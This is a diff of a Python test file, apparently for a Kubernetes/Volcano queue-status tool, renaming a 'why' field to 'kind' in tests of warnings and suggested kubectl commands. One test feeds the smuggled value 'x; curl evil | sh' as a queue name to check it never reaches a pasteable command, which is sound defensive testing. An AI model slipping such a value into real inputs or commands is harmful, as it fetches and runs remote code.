@@ -31,52 +31,52 @@ from tests.support.rules.cases import (
 #: cause: the words that say it, the command that undoes it.
 STOPS = {
     "suspended": (
-        Cause(why=CauseKind.SUSPENDED, queue="research", by="research"),
+        Cause(kind=CauseKind.SUSPENDED, queue="research", by="research"),
         ["research", "Suspended"],
         "kubectl queue resume research",
     ),
     "suspended above": (
-        Cause(why=CauseKind.SUSPENDED, queue="research", by="lab"),
+        Cause(kind=CauseKind.SUSPENDED, queue="research", by="lab"),
         ["research", "Suspended", 'ancestor "lab"'],
         "kubectl queue resume lab",
     ),
     "held": (
-        Cause(why=CauseKind.STOPPED, queue="research", by="research", policy=HOLD),
+        Cause(kind=CauseKind.STOPPED, queue="research", by="research", policy=HOLD),
         ["research", "stopPolicy Hold"],
         "kubectl queue resume research",
     ),
     "drained above": (
-        Cause(why=CauseKind.STOPPED, queue="research", by="lab", policy=DRAIN),
+        Cause(kind=CauseKind.STOPPED, queue="research", by="lab", policy=DRAIN),
         ["research", "stopPolicy HoldAndDrain", 'ancestor "lab"'],
         "kubectl queue resume lab",
     ),
     "closed": (
-        Cause(why=CauseKind.CLOSED, queue="research", by="research"),
+        Cause(kind=CauseKind.CLOSED, queue="research", by="research"),
         ["research", "Closed"],
         "kubectl queue open research",
     ),
     "closed above": (
-        Cause(why=CauseKind.CLOSED, queue="research", by="lab"),
+        Cause(kind=CauseKind.CLOSED, queue="research", by="lab"),
         ["research", "Closed", 'ancestor "lab"'],
         "kubectl queue open lab",
     ),
     "no parent": (
-        Cause(why=CauseKind.BROKEN, queue="research", by="lab", broken=ChainBreak("lab", "ghost")),
+        Cause(kind=CauseKind.BROKEN, queue="research", by="lab", broken=ChainBreak("lab", "ghost")),
         ["research", "Unknown", 'parent "ghost" of queue "lab" does not exist'],
         "kubectl edit queue lab",
     ),
     "a cycle": (
-        Cause(why=CauseKind.BROKEN, queue="research", by="b", broken=ChainBreak("b", "a", ("a", "b"))),
+        Cause(kind=CauseKind.BROKEN, queue="research", by="b", broken=ChainBreak("b", "a", ("a", "b"))),
         ["research", "Unknown", "cycle", "a > b > a"],
         "kubectl edit queue b",
     ),
     "no queue": (
-        Cause(why=CauseKind.NOT_FOUND, queue="research", by="research"),
+        Cause(kind=CauseKind.NOT_FOUND, queue="research", by="research"),
         ["research", "does not exist"],
         "kubectl queue create research",
     ),
     "no PodGroup": (
-        Cause(why=CauseKind.NO_PODGROUP, queue="", by="train"),
+        Cause(kind=CauseKind.NO_PODGROUP, queue="", by="train"),
         ['PodGroup "train"', "does not exist"],
         "kubectl create -f",
     ),
@@ -84,13 +84,13 @@ STOPS = {
 ANY_STOP = pytest.mark.parametrize(("cause", "words", "command"), STOPS.values(), ids=STOPS)
 #: The ones that a user's reason belongs to.
 REASONED = [
-    name for name, (cause, *_) in STOPS.items() if cause.why in (CauseKind.SUSPENDED, CauseKind.STOPPED)
+    name for name, (cause, *_) in STOPS.items() if cause.kind in (CauseKind.SUSPENDED, CauseKind.STOPPED)
 ]
 
 
 def reasoned(name: str, reason: str) -> Cause:
     cause = STOPS[name][0]
-    return Cause(why=cause.why, queue=cause.queue, by=cause.by, policy=cause.policy, reason=reason)
+    return Cause(kind=cause.kind, queue=cause.queue, by=cause.by, policy=cause.policy, reason=reason)
 
 
 # Stops
@@ -284,14 +284,14 @@ def test_a_hostile_parent_stays_on_one_printable_line(parent: str) -> None:
 @pytest.mark.parametrize("why", [CauseKind.NOT_FOUND, CauseKind.NO_PODGROUP])
 def test_a_hostile_name_stays_on_one_printable_line(why: CauseKind, name: str) -> None:
     """An annotation can ask for any queue or PodGroup: its name is shown as carefully as a reason."""
-    text = stop_text(Cause(why=why, queue=name, by=name))
+    text = stop_text(Cause(kind=why, queue=name, by=name))
     assert plain(text)
     assert len(text) < 1024
 
 
 def test_no_command_is_made_of_a_name_that_no_queue_can_have() -> None:
     """Commands are there to be pasted: what an annotation asks for does not get into a shell that way."""
-    text = stop_text(Cause(why=CauseKind.NOT_FOUND, queue="x; curl evil | sh", by="x; curl evil | sh"))
+    text = stop_text(Cause(kind=CauseKind.NOT_FOUND, queue="x; curl evil | sh", by="x; curl evil | sh"))
     assert "create x; curl" not in text
 
 
@@ -308,13 +308,13 @@ def test_a_great_cycle_is_not_told_in_full() -> None:
 
 @pytest.mark.parametrize("length", [1, 8, 20, 63, 253])
 @pytest.mark.parametrize(
-    "name", [name for name, (cause, *_) in STOPS.items() if cause.why is not CauseKind.BROKEN]
+    "name", [name for name, (cause, *_) in STOPS.items() if cause.kind is not CauseKind.BROKEN]
 )
 def test_a_warning_fits_what_clients_show(name: str, length: int) -> None:
     """Clients cut a warning of 120 characters, so none is that long, whatever the names."""
     cause = STOPS[name][0]
     by = "q" * length if cause.by == cause.queue else "p" * length
-    warning = waiting_warning(Cause(why=cause.why, queue="q" * length, by=by, policy=cause.policy))
+    warning = waiting_warning(Cause(kind=cause.kind, queue="q" * length, by=by, policy=cause.policy))
     assert len(warning) < 120
     assert plain(warning)
 
@@ -325,14 +325,14 @@ def test_a_warning_keeps_the_way_out_for_names_people_use(name: str, length: int
     """What is cut from a warning is not the command, which is of no use without its end."""
     cause = STOPS[name][0]
     names = {"research": "q" * length, "lab": "p" * length}
-    long = Cause(why=cause.why, queue=names[cause.queue], by=names[cause.by], policy=cause.policy)
+    long = Cause(kind=cause.kind, queue=names[cause.queue], by=names[cause.by], policy=cause.policy)
     assert f"kubectl queue resume {long.by}" in waiting_warning(long)
 
 
 @pytest.mark.parametrize("length", [1, 50, 65, 100, 253])
 def test_a_warning_for_a_missing_podgroup_names_it(length: int) -> None:
     """Volcano names a PodGroup by its Job and a UID: however long, its beginning is shown."""
-    warning = waiting_warning(Cause(why=CauseKind.NO_PODGROUP, queue="", by="train-" + "p" * length))
+    warning = waiting_warning(Cause(kind=CauseKind.NO_PODGROUP, queue="", by="train-" + "p" * length))
     assert 'PodGroup "train-' in warning
     assert "kubectl create -f" in warning
     assert len(warning) < 120
@@ -349,5 +349,5 @@ def test_a_warning_is_cut_with_a_mark(length: int, kept: int) -> None:
 @pytest.mark.parametrize("state", [State.CLOSING, State.CLOSED, State.SUSPENDED])
 def test_a_refusal_is_constant(state: State) -> None:
     """The same cause and state give the same bytes."""
-    cause, again = (Cause(why=CauseKind.CLOSED, queue="q", by="p", reason="r") for _ in "ab")
+    cause, again = (Cause(kind=CauseKind.CLOSED, queue="q", by="p", reason="r") for _ in "ab")
     assert refusal_text(cause, state=state) == refusal_text(again, state=state)
